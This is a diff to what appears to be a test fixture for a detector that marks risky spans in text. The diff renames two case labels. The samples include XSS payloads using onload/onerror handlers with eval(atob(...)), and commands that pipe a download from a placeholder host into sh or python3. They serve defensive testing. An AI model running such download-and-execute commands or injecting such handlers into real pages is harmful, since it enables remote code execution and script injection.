@@ -47,7 +47,7 @@ const EXCERPTS: readonly (readonly [shape: string, marked: string])[] = [
     "local code cut off",
     "```bash\ncurl -s https://x.example/v.json | python3 -c 'import json, sys\n```",
   ],
-  ["a handler behind a slash", "Try `<svg/onload=«eval(atob»('YWxlcnQoMSk='))>` in the form."],
+  ["a handler after a slash", "Try `<svg/onload=«eval(atob»('YWxlcnQoMSk='))>` in the form."],
   [
     "a handler without a blank before it",
     "It becomes\n\n  <img alt='x'onerror=«eval(window.atob»('YWxlcnQoMSk='))>\n\nin the page.",
@@ -69,7 +69,7 @@ const EXCERPTS: readonly (readonly [shape: string, marked: string])[] = [
     '```\n{ input: "curl https://x.example/i.sh | sh", allowed: false },\n```',
   ],
   [
-    "a string that is handed on, without a tag",
+    "a string that is passed on, without a tag",
     '```\nsystem "«curl https://x.example/i.sh | sh»"\n```',
   ],
   [
